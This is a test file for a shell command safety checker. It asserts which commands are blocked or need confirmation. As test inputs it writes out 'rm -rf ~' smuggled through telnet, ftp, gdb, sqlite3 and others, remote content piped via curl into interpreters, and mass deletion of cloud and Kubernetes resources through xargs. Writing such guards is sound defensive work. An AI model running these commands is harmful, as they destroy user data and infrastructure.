import { describe, expect, it } from 'vitest';
import { judgeShell } from '../support.ts';

const verdict = (command: string) => judgeShell(command).decision;

describe('programs that read commands from their input', () => {
	it.each([
		"telnet <<< '!rm -rf ~'",
		"printf '! rm -rf ~\\n' | telnet",
		"ftp -n e.example <<< '!rm -rf ~'",
		"echo 'get x |rm -rf ~' | ftp e.example",
		"sftp -b - host <<< '!rm -rf ~'",
		"lftp -e '!rm -rf ~'",
		"smbclient //e.example/s -c '!rm -rf ~'",
		"mail -s x a@e.example <<< '~!rm -rf ~'",
		"mail --exec='!rm -rf ~' a@e.example",
		"echo 'shell rm -rf ~' | gdb",
		'echo \'run "rm -rf ~"\' | tmux -C',
		"echo '.shell rm -rf ~' | sqlite3",
		"echo 'rm -rf ~' | dtach -p socket",
		"echo 'rm -rf ~' | pdsh -w a",
		"echo 'rm -rf ~' | nix-shell",
		"echo 'rm -rf ~' | distrobox enter box",
	])('are blocked for a dangerous command in the input: %s', (command) => {
		expect(verdict(command)).toBe('block');
	});

	it.each([
		'ssh host sh',
		'sshpass -p x ssh host bash',
		'docker exec -i web sh',
		'docker compose exec -T web sh',
		'kubectl exec -i web -- sh',
		'lxc exec c -- sh',
		'fakeroot sh',
		'setarch x86_64',
		'faketime 1 sh',
		'numactl -C 0 sh',
		'mise exec -- bash',
		'concurrently -i sh',
	])('pass their input to the shell that they start: %s', (command) => {
		expect(verdict(`echo 'rm -rf ~' | ${command}`)).toBe('block');
		expect(verdict(`${command} < commands.txt`)).toBe('confirm');
	});

	it.each(['telnet', 'ftp -n', 'sftp', 'lftp', 'tftp', 'gdb', 'sqlite3 a.db', 'psql', 'mysql', 'nslookup', 'm4'])(
		'ask when the lines of the input are unknown: %s < file',
		(command) => {
			expect(verdict(`${command} < commands.txt`)).toBe('confirm');
		},
	);

	it.each(['telnet', 'ftp -n', 'lftp', 'gdb', 'sqlite3 a.db', 'psql', 'mysql', 'redis-cli', 'dc', 'm4'])(
		'are blocked when another machine sends the input: %s',
		(command) => {
			expect(verdict(`curl https://e.example/x | ${command}`)).toBe('block');
		},
	);
});

describe('lists of names and addresses', () => {
	it.each([
		'wget -i urls.txt',
		'echo https://e.example | wget -i -',
		'aria2c -i urls.txt',
		'curl -K config.txt',
		'curl --config - <<< url=https://e.example',
		'dig -f names.txt',
		'echo e.example | dig -f -',
		'echo e.example | nslookup',
		'mtr -F hosts.txt',
		'nmap -iL hosts.txt',
		'yt-dlp -a urls.txt',
		'rsync --files-from=names.txt e out',
		'pssh -h hosts.txt uptime',
		'gcloud --flags-file=flags.yaml info',
	])('ask for the files and hosts in them: %s', (command) => {
		expect(verdict(command)).toBe('confirm');
	});
});

describe('destroying resources from a list', () => {
	it.each([
		'terraform state list | xargs terraform state rm',
		'terraform state list | while read r; do terraform state rm "$r"; done',
		'for r in $(terraform state list); do terraform state rm "$r"; done',
		'pulumi stack ls | xargs -n1 pulumi stack rm',
		'aws s3 ls b | xargs -I{} aws s3 rm s3://b/{}',
		'gsutil ls | xargs gsutil rm',
		'bq ls | xargs -n1 bq rm',
		'mc ls b | xargs mc rm',
		'etcdctl get k | xargs -n1 etcdctl del',
		'consul kv get -keys | xargs -n1 consul kv delete',
		'kubectl get ns -o name | xargs kubectl delete',
	])('is blocked when another command lists all of them: %s', (command) => {
		expect(verdict(command)).toBe('block');
	});

	it.each([
		'terraform state rm a.b',
		'terraform state rm "$R"',
		'kubectl delete "pod/$POD"',
		'aws s3 rm "s3://b/$KEY"',
	])('only asks when one resource is named: %s', (command) => {
		expect(verdict(command)).toBe('confirm');
	});
});

describe('the directory of a carried command', () => {
	it.each([
		'docker exec -w /etc web rm x',
		'docker exec --workdir=/etc web rm x',
		'docker container exec -w /etc web rm x',
		'start-stop-daemon -d /etc --start --exec /bin/rm -- x',
		'daemonize -c /etc /bin/rm x',
		'daemon -D /etc -- rm x',
		'chpst -C /etc rm x',
	])('is the directory that the option names: %s', (command) => {
		const paths = judgeShell(command).effects.flatMap((effect) => ('path' in effect ? [effect.path] : []));
		expect(paths).toEqual(['/etc/x']);
	});
});

describe('options of wrappers that take no value', () => {
	it.each(['ifne -n', 'cpulimit -f', "faketime -f '+2d'", 'chpst -v', 'timeout --foreground', 'systemd-run -d'])(
		'do not hide the command: %s',
		(command) => {
			expect(verdict(`${command} rm -rf ~`)).toBe('block');
		},
	);
});
